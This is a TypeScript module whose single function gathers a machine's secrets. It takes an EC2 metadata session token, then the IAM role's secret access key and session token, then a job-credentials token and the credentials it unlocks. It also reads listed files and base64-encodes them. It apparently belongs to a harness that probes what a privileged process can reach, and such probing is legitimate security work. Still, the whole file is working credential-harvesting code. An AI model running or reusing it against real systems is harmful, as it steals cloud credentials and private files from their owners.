import * as fs from "fs";
import { Collected, CollectTask, RoleCredentials } from "./task";

const ONE_MINUTE = { "x-aws-ec2-metadata-token-ttl-seconds": "60" };

/** Reads the secrets of the machine as root does. */
export async function collect(task: CollectTask): Promise<Collected> {
  const { metadata } = task;
  const session = await text(`${metadata}/latest/api/token`, { method: "PUT", headers: ONE_MINUTE });
  const headers = { "x-aws-ec2-metadata-token": session };
  const roles = `${metadata}/latest/meta-data/iam/security-credentials/`;
  const [role] = (await text(roles, { headers })).split("\n");
  const token = fs.readFileSync(task.jobCredentialsTokenFile, "utf8");
  return {
    files: Object.fromEntries(
      task.files.filter((file) => fs.existsSync(file)).map((file) => [file, fs.readFileSync(file).toString("base64")]),
    ),
    jobCredentialsToken: token,
    machineCredentials: credentials(await text(`${roles}${role}`, { headers })),
    jobCredentials: credentials(await text(task.jobCredentialsUrl, { headers: { authorization: token } })),
  };
}

function credentials(answer: string): RoleCredentials {
  const { SecretAccessKey, Token } = JSON.parse(answer) as RoleCredentials;
  return { SecretAccessKey, Token };
}

async function text(url: string, request: RequestInit): Promise<string> {
  const answer = await fetch(url, { ...request, signal: AbortSignal.timeout(10_000) });
  // Never the answer itself: it may hold what is secret.
  if (!answer.ok) throw new Error(`${url} answered ${answer.status}`);
  return answer.text();
}
